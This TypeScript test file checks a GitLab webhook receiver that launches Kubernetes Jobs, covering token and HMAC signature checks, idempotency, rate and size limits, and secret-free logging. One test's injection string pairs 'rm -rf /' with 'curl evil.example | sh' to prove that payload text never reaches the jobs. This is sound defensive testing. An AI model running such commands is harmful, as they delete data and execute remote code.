import { createHmac } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { RawClient } from '../support/rude-clients/raw-client';
import { headOf } from '../support/rude-clients/target';
import { issuePayload, notePayload } from '../images/automation-hooks/payloads';
import { RunningReceiver } from '../images/automation-hooks/running-receiver';
import { StandInApi } from '../images/automation-hooks/stand-in-api';

const token = 't0k3n'.repeat(10);
const otherToken = 'other'.repeat(10);
const signingKey = Buffer.from('a key that GitLab made up by chance');
const template = 'hooks-hook-request';
const cronJob = {
  metadata: { name: template, uid: 'b5a7', namespace: 'accounts' },
  spec: {
    suspend: true,
    jobTemplate: {
      metadata: { labels: { 'commons-platform/owner': 'accounts' } },
      spec: {
        backoffLimit: 0,
        ttlSecondsAfterFinished: 604_800,
        template: {
          metadata: { labels: { 'app.kubernetes.io/instance': 'hooks' } },
          spec: {
            restartPolicy: 'Never',
            containers: [{ name: template, command: ['bin/accounts'], env: [{ name: 'HOOK_NAME', value: 'request' }] }],
          },
        },
      },
    },
  },
};
const hook = { name: 'request', project: 'infrastructure/accounts', on: ['issue', 'note'], template };

let api: StandInApi;
let receiver: RunningReceiver;

beforeAll(async () => {
  api = await StandInApi.started('accounts', cronJob);
  receiver = await RunningReceiver.started(
    { token: api.token, 'ca.crt': '', namespace: 'accounts' },
    {
      KUBERNETES_API: api.url,
      ACCOUNT: 'accounts-bot',
      MAX_BODY_KIB: '64',
      BODY_SECONDS: '1',
      TOKEN_REQUEST: token,
      TOKEN_GROUP: otherToken,
      TOKEN_SIGNED: `whsec_${signingKey.toString('base64')}`,
      RUNS_PER_MINUTE: '20',
      HOOKS: JSON.stringify([
        { ...hook, token: 'TOKEN_REQUEST' },
        { ...hook, name: 'signed', token: 'TOKEN_SIGNED' },
        { ...hook, name: 'group', on: ['merge-request'], token: 'TOKEN_GROUP' },
      ]),
    },
  );
});
afterAll(async () => {
  await receiver.stop();
  await api.stop();
});
beforeEach(() => {
  api.fault = 'none';
  api.failing = 0;
  api.asked.splice(0);
});

let deliveries = 0;
const nextKey = () => `b5b2ae7f-9edd-442f-a1c2-${String(++deliveries).padStart(12, '0')}`;

/** Headers of GitLab's; an empty one is left out. */
const headersOf = (change: Readonly<Record<string, string>> = {}) =>
  Object.fromEntries(
    Object.entries({
      'content-type': 'application/json',
      'user-agent': 'GitLab/19.3.0',
      'x-gitlab-event': 'Issue Hook',
      'x-gitlab-token': token,
      'idempotency-key': nextKey(),
      ...change,
    }).filter(([, value]) => value !== ''),
  );

const deliver = (payload: object | string, change: Readonly<Record<string, string>> = {}, path = '/hooks/request') =>
  receiver.send({
    path,
    headers: headersOf(change),
    body: typeof payload === 'string' ? payload : JSON.stringify(payload),
  });

const variablesOf = (job: string) =>
  Object.fromEntries(
    (api.jobs.get(job)?.spec.template.spec.containers[0].env ?? []).map(({ name, value }) => [name, value]),
  );
const jobIn = (text: string): string => /: (\S+)\n$/.exec(text)?.[1] ?? '';

test('an issue starts the automation, which is told whom to ask about', async () => {
  const key = nextKey();
  const { status, text } = await deliver(issuePayload, { 'idempotency-key': key });
  expect(status).toBe(202);
  expect(jobIn(text)).toMatch(/^hooks-hook-request-[0-9a-f]{20}$/);
  expect(api.jobs.get(jobIn(text))).toMatchObject({
    metadata: {
      labels: { 'commons-platform/owner': 'accounts' },
      annotations: { 'commons-platform/delivery': key },
      // Without `controller`, or that of the CronJob would clear it away.
      ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: template, uid: 'b5a7' }],
    },
    spec: { ...cronJob.spec.jobTemplate.spec, template: { spec: { containers: [{ command: ['bin/accounts'] }] } } },
  });
  expect(variablesOf(jobIn(text))).toEqual({
    HOOK_NAME: 'request',
    HOOK_EVENT: 'issue',
    HOOK_PROJECT_ID: '42',
    HOOK_TARGET: 'issue',
    HOOK_IID: '23',
  });
});

test('a note starts it too, also a confidential one', async () => {
  for (const event of ['Note Hook', 'Confidential Note Hook']) {
    const { status, text } = await deliver(notePayload, { 'x-gitlab-event': event });
    expect(status).toBe(202);
    expect(variablesOf(jobIn(text))).toMatchObject({ HOOK_EVENT: 'note', HOOK_IID: '23', HOOK_NOTE_ID: '1244' });
  }
});

test('a delivery that comes again starts nothing more, also when both come at once', async () => {
  const key = nextKey();
  const before = api.jobs.size;
  const answers = await Promise.all([1, 2].map(() => deliver(issuePayload, { 'idempotency-key': key })));
  expect(answers.map(({ status }) => status).sort()).toEqual([200, 202]);
  expect(await deliver(issuePayload, { 'idempotency-key': key })).toMatchObject({ status: 200 });
  expect(api.jobs.size).toBe(before + 1);
});

test('no text of a payload gets to the automation, whatever is in it', async () => {
  const evil = '$(rm -rf /); `id` "\'\n&& curl evil.example | sh';
  const { text } = await deliver({
    ...issuePayload,
    user: { ...issuePayload.user, name: evil, username: evil },
    project: { ...issuePayload.project, name: evil },
    object_attributes: { ...issuePayload.object_attributes, title: evil, description: evil, action: evil },
    HOOK_NAME: evil,
  });
  expect(Object.values(variablesOf(jobIn(text)))).toEqual(['request', 'issue', '42', 'issue', '23']);
  expect(JSON.stringify([...api.jobs.values()])).not.toMatch(/evil|rm -rf/);
  expect(receiver.output).not.toMatch(/evil|rm -rf/);
});

const attributes = issuePayload.object_attributes;

test.each<[string, object | string, Record<string, string>, number, RegExp]>([
  ['a forged token', issuePayload, { 'x-gitlab-token': `${token}x` }, 401, /secret token/],
  ['the token of another hook', issuePayload, { 'x-gitlab-token': otherToken }, 401, /secret token/],
  ['no token', issuePayload, { 'x-gitlab-token': '' }, 401, /secret token/],
  [
    'an event that the hook is not for',
    issuePayload,
    { 'x-gitlab-event': 'Merge Request Hook' },
    403,
    /for issue, note/,
  ],
  ['an event of a system hook', issuePayload, { 'x-gitlab-event': 'System Hook' }, 403, /for issue, note/],
  ['no event', issuePayload, { 'x-gitlab-event': '' }, 403, /for issue, note/],
  ['no key', issuePayload, { 'idempotency-key': '' }, 400, /Idempotency-Key/],
  ['a key that is none', issuePayload, { 'idempotency-key': '../jobs' }, 400, /Idempotency-Key/],
  ['another project', { ...issuePayload, project: { id: 43, path_with_namespace: 'a/b' } }, {}, 403, /not the one/],
  ['a project that begins alike', JSON.stringify(issuePayload).replace('/accounts', '/accounts2'), {}, 403, /not the/],
  ['no project', { ...issuePayload, project: undefined }, {}, 400, /no payload/],
  [
    'a number that is text',
    { ...issuePayload, object_attributes: { ...attributes, iid: '23; id' } },
    {},
    400,
    /no pay/,
  ],
  ['a number that is none', { ...issuePayload, object_attributes: { ...attributes, iid: -1 } }, {}, 400, /no payload/],
  ['no JSON', '{"object_kind":', {}, 400, /no payload/],
  ['more than allowed', { ...issuePayload, filling: 'x'.repeat(65_536) }, {}, 413, /65536/],
])('a delivery with %s is refused', async (_, payload, headers, status, reason) => {
  const answer = await deliver(payload, headers);
  expect(answer.status).toBe(status);
  expect(answer.text).toMatch(reason);
  expect(api.asked).toEqual([]);
});

test.each<[string, object, string]>([
  ['what the automation did itself', { ...issuePayload, user: { username: 'accounts-bot' } }, 'Issue Hook'],
  ['a task, which comes like an issue', { ...issuePayload, object_kind: 'work_item' }, 'Issue Hook'],
  ['a note on a commit', { ...notePayload, issue: undefined, commit: { id: 'c0ffee' } }, 'Note Hook'],
])('%s is ignored, and GitLab sees no fault', async (_, payload, event) => {
  expect(await deliver(payload, { 'x-gitlab-event': event })).toMatchObject({ status: 200 });
  expect(api.asked).toEqual([]);
});

test('too much is refused without a length too, and too slow as well', async () => {
  const heard = async (head: string, body: string) => {
    const socket = connect(receiver.port, '127.0.0.1');
    let text = '';
    socket.on('data', (data) => (text += data.toString())).on('error', () => undefined);
    const lines = Object.entries(headersOf()).map(([name, value]) => `${name}: ${value}`);
    socket.write(['POST /hooks/request HTTP/1.1', 'host: hooks.example', ...lines, head, '', body].join('\r\n'));
    await new Promise((resolved) => socket.once('close', resolved));
    return text.split('\r\n')[0];
  };
  const chunk = `${(70_000).toString(16)}\r\n${'x'.repeat(70_000)}\r\n`;
  expect(await heard('transfer-encoding: chunked', chunk)).toBe('HTTP/1.1 413 Payload Too Large');
  expect(await heard('content-length: 100', '{')).toBe('HTTP/1.1 408 Request Timeout');
  expect(api.asked).toEqual([]);
});

test('a fault of the Kubernetes API that passes is not noticed', async () => {
  api.failing = 2;
  expect(await deliver(issuePayload)).toMatchObject({ status: 202 });
});

test.each([
  ['down', /said 503/],
  ['silent', /gave no answer within 1200/],
  ['denied', /said 403: Forbidden!/],
] as const)(
  'while the Kubernetes API is %s, GitLab is told so in time, and the same delivery starts it later',
  async (fault, reason) => {
    const key = nextKey();
    const before = api.jobs.size;
    api.fault = fault;
    const begun = Date.now();
    const answer = await deliver(issuePayload, { 'idempotency-key': key });
    expect(Date.now() - begun).toBeLessThan(9000);
    expect(answer).toEqual({ status: 503, text: 'failed: no run was started; send it again later\n' });
    expect(receiver.output).toMatch(reason);
    expect(api.jobs.size).toBe(before);
    api.fault = 'none';
    expect(await deliver(issuePayload, { 'idempotency-key': key })).toMatchObject({ status: 202 });
  },
  20_000,
);

describe('a hook with a signing token', () => {
  const body = JSON.stringify(issuePayload);
  const now = () => Math.floor(Date.now() / 1000);
  const headers = ({ key = signingKey, timestamp = now(), signed = body, id = nextKey() } = {}) => ({
    'idempotency-key': id,
    'webhook-id': id,
    'webhook-timestamp': String(timestamp),
    'x-gitlab-token': '',
    'webhook-signature': `v1,${createHmac('sha256', key).update(`${id}.${timestamp}.${signed}`).digest('base64')}`,
  });
  const path = '/hooks/signed';

  test('takes what GitLab signed, once, and also while its token is changed', async () => {
    const once = headers();
    expect(await deliver(body, once, path)).toMatchObject({ status: 202 });
    expect(await deliver(body, once, path)).toMatchObject({ status: 200 });
    const two = headers();
    const both = { ...two, 'webhook-signature': `v1,${'A'.repeat(43)}= ${two['webhook-signature']}` };
    expect(await deliver(body, both, path)).toMatchObject({ status: 202 });
  });

  test.each<[string, () => Record<string, string>]>([
    ['no signature', () => ({ ...headers(), 'webhook-signature': '' })],
    ['another key', () => headers({ key: Buffer.from('another') })],
    ['no key', () => headers({ key: Buffer.alloc(0) })],
    ['another body', () => headers({ signed: body.replace('23', '24') })],
    ['the id of another', () => ({ ...headers(), 'webhook-id': nextKey() })],
    ['a time of before', () => headers({ timestamp: now() - 301 })],
    ['a time to come', () => headers({ timestamp: now() + 302 })],
    ['a time that was moved', () => ({ ...headers({ timestamp: now() - 301 }), 'webhook-timestamp': String(now()) })],
    [
      'the signing token itself',
      () => ({ ...headers(), 'webhook-signature': '', 'x-gitlab-token': signingKey.toString('base64') }),
    ],
  ])('refuses %s', async (_, change) => {
    const answer = await deliver(body, change(), path);
    expect(answer).toMatchObject({ status: 401 });
    expect(answer.text).toContain('the signature is missing');
    expect(api.asked).toEqual([]);
  });
});

test('before a body comes in, all is looked at that can be', async () => {
  const id = nextKey();
  const old = { 'webhook-id': id, 'webhook-timestamp': '1', 'webhook-signature': `v1,${'A'.repeat(43)}=` };
  const now = { ...old, 'webhook-timestamp': String(Math.floor(Date.now() / 1000)) };
  const firstLine = async (headers: Readonly<Record<string, string>>) => {
    const lines = Object.entries(headersOf({ 'x-gitlab-token': '', ...headers })).map((each) => each.join(': '));
    const head = headOf({ line: 'POST /hooks/signed', headers: lines, body: '' }, 'content-length: 100');
    const client = await (await RawClient.open(receiver.port)).send(head);
    for (let waited = 0; waited < 500 && client.heard === ''; waited++) await pause(10);
    client.reset();
    return client.heard.split('\r\n')[0];
  };
  expect(await firstLine(old)).toBe('HTTP/1.1 401 Unauthorized');
  expect(await firstLine({ ...now, 'webhook-signature': 'v1,short' })).toBe('HTTP/1.1 401 Unauthorized');
  const many = Array(9).fill(now['webhook-signature']).join(' ');
  expect(await firstLine({ ...now, 'webhook-signature': many })).toBe('HTTP/1.1 401 Unauthorized');
  expect(await firstLine(now)).toBe('HTTP/1.1 408 Request Timeout');
});

test('robots get nothing', async () => {
  expect(await receiver.send({ path: '/hooks/request', method: 'GET' })).toMatchObject({ status: 405 });
  for (const path of ['/', '/hooks/', '/hooks/other', '/hooks/request/', '/hooks/request?a=b', '//hooks/request']) {
    expect([path, (await deliver(issuePayload, {}, path)).status]).toEqual([path, 404]);
  }
});

test('one hook that is flooded does not take the place of another', async () => {
  const flood = await Promise.all(Array.from({ length: 30 }, () => deliver(issuePayload)));
  expect(new Set(flood.map(({ status }) => status))).toContain(429);
  const request = {
    ...issuePayload,
    object_kind: 'merge_request',
  };
  const headers = { 'x-gitlab-event': 'Merge Request Hook', 'x-gitlab-token': otherToken };
  const { status, text } = await deliver(request, headers, '/hooks/group');
  expect(status).toBe(202);
  expect(variablesOf(jobIn(text))).toMatchObject({ HOOK_EVENT: 'merge-request', HOOK_TARGET: 'merge-request' });
});

test('it says how it is and what it did, and no token', async () => {
  expect(await receiver.send({ path: '/healthz', method: 'GET' })).toEqual({ status: 200, text: 'ok\n' });
  const { text } = await receiver.send({ path: '/metrics', method: 'GET' });
  expect(text).toMatch(/^hook_deliveries_total\{hook="request",result="started"\} [1-9]/m);
  expect(text).toMatch(/^hook_deliveries_total\{hook="request",result="failed"\} 3$/m);
  expect(text).toMatch(/^hook_deliveries_total\{hook="group",result="failed"\} 0$/m);
  expect(text).toMatch(/^hook_stray_requests_total 7$/m);
  expect(receiver.output).toContain('"event":"started","status":202,"hook":"request"');
  for (const secret of [token, otherToken, api.token, signingKey.toString('base64')])
    expect(receiver.output).not.toContain(secret);
});
